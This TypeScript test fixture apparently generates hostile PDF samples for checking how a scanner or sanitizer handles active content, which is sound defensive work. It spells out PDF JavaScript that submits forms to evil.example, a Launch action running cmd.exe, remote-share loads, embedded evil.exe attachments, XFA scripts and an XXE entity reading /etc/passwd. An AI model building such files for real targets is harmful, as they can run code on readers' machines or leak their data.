import type { HostileFile } from './hostile-file.ts'
import { FIRST_MORE, type PdfObject, type PdfPlan, pdf } from './pdf-writer.ts'

const SCRIPT = "(app.alert\\('owned'\\); this.submitForm\\('http://evil.example/'\\);)"
const first = `${FIRST_MORE} 0 R`
const second = `${FIRST_MORE + 1} 0 R`
const BOX = '/Rect [0 0 150 70]'

/** Every kind of action a viewer may carry out. */
const ACTIONS: Record<string, string> = {
  'a script': `<< /S /JavaScript /JS ${SCRIPT} >>`,
  'a script spelled with escapes': `<< /S /J#61vaScript /J#53 ${SCRIPT} >>`,
  'a script as a stream': `<< /S /JavaScript /JS ${second} >>`,
  'a program to launch': '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  'an address to open': '<< /S /URI /URI (http://evil.example/steal) >>',
  'a remote document': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
  'an embedded document': '<< /S /GoToE /D [0 /Fit] /T << /R /C /N (evil.pdf) >> >>',
  'a form to send': '<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> /Flags 32 >>',
  'data to import': '<< /S /ImportData /F (\\\\\\\\evil.example\\\\x.fdf) >>',
  'a sound': `<< /S /Sound /Sound ${second} >>`,
  'a film': '<< /S /Movie /Operation /Play >>',
  'a rendition with a script': `<< /S /Rendition /OP 0 /JS ${SCRIPT} >>`,
  'a chain of scripts': `<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS ${SCRIPT} >> >>`,
}

const body: PdfObject = { dictionary: '', stream: "app.alert('owned')" }

/** Every place a viewer starts an action from. */
const PLACES: Record<string, (action: string) => PdfPlan> = {
  'when opened': (action) => ({ catalog: `/OpenAction ${first}`, more: [action, body] }),
  'when its page is shown': (action) => ({
    page: `/AA << /O ${first} /C ${first} >>`,
    more: [action, body],
  }),
  'by a link on the page': (action) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link ${BOX} /A ${first} >>]`,
    more: [action, body],
  }),
}

const actions: HostileFile[] = Object.entries(PLACES).flatMap(([place, plan]) =>
  Object.entries(ACTIONS).map(([what, action]) => ({
    name: `${what}, ${place}`,
    make: () => pdf(plan(action)),
    // If names are spelled to hide, the scanner is right to be suspicious.
    becomes: what.includes('escapes') ? (['infected', 'read'] as const) : (['read'] as const),
  })),
)

const script = `<< /S /JavaScript /JS ${SCRIPT} >>`
const file = `<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F ${second} >> >>`
const embedded: PdfObject = { dictionary: '/Type /EmbeddedFile', stream: 'MZ evil program' }

const CARRIERS: Record<string, PdfPlan> = {
  'scripts in the tree of names': {
    catalog: `/Names << /JavaScript << /Names [(a) ${first}] >> >>`,
    more: [script],
  },
  'scripts of the document': {
    catalog: `/AA << /WC ${first} /WS ${first} /WP ${first} >>`,
    more: [script],
  },
  'a file attached': {
    catalog: `/Names << /EmbeddedFiles << /Names [(evil.exe) ${first}] >> >>`,
    more: [file, embedded],
  },
  'a file attached to the page': {
    page: `/Annots [<< /Type /Annot /Subtype /FileAttachment ${BOX} /FS ${first} >>]`,
    more: [file, embedded],
  },
  'a file associated with the page': { page: `/AF [${first}]`, more: [file, embedded] },
  'a portfolio': {
    catalog: `/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(evil.exe) ${first}] >> >>`,
    more: [file, embedded],
  },
  'a form that runs on every key': {
    catalog: `/AcroForm << /Fields [${first}] /CO [${first}] >>`,
    page: `/Annots [${first}]`,
    more: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) ${BOX} /AA << /K ${script} /F ${script} /V ${script} /C ${script} >> >>`,
    ],
  },
  'an XFA form': {
    catalog: `/NeedsRendering true /AcroForm << /Fields [] /XFA ${first} >>`,
    more: [
      {
        dictionary: '',
        stream:
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">evil()</script></xdp:xdp>',
      },
    ],
  },
  'rich media': {
    page: `/Annots [<< /Type /Annot /Subtype /RichMedia ${BOX} /RichMediaContent << /Assets << /Names [(evil.swf) ${first}] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >> >>]`,
    more: [file, embedded],
  },
  'a screen with a rendition': {
    page: `/Annots [<< /Type /Annot /Subtype /Screen ${BOX} /AA << /PO << /S /Rendition /OP 0 /JS ${SCRIPT} >> >> >>]`,
  },
  'a solid model with a script': {
    page: `/Annots [<< /Type /Annot /Subtype /3D ${BOX} /3DD ${first} >>]`,
    more: [{ dictionary: '/Type /3D /Subtype /U3D', stream: 'U3D' }],
  },
  'an outline that launches': {
    catalog: `/Outlines ${first}`,
    more: [
      `<< /Type /Outlines /First ${second} /Last ${second} /Count 1 >>`,
      `<< /Title (Open me) /Parent ${first} /A << /S /Launch /F (cmd.exe) >> >>`,
    ],
  },
  'a picture kept elsewhere': {
    more: [
      {
        dictionary:
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (http://evil.example/x) >>',
        stream: '',
      },
    ],
    page: `/Resources << /XObject << /I ${first} >> >>`,
  },
  'a page kept in another file': {
    content: {
      dictionary: '',
      stream: '/X Do',
    },
    page: `/Resources << /XObject << /X ${first} >> >>`,
    more: [
      {
        dictionary:
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (/etc/passwd) /Page 0 >>',
        stream: '',
      },
    ],
  },
  'metadata about a person, with entities': {
    catalog: `/Metadata ${first}`,
    more: [
      {
        dictionary: '/Type /Metadata /Subtype /XML',
        stream: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
      },
    ],
  },
  'a signature that allows all': {
    catalog: `/Perms << /DocMDP ${first} /UR3 ${first} >>`,
    more: ['<< /Type /Sig /Filter /Adobe.PPKLite /Contents <00> /ByteRange [0 0 0 0] >>'],
  },
}

/** Files that would do something when opened. */
export const activeFiles: HostileFile[] = [
  ...actions,
  ...Object.entries(CARRIERS).map(([name, plan]) => ({
    name,
    make: () => pdf(plan),
    becomes: ['read'] as const,
  })),
]
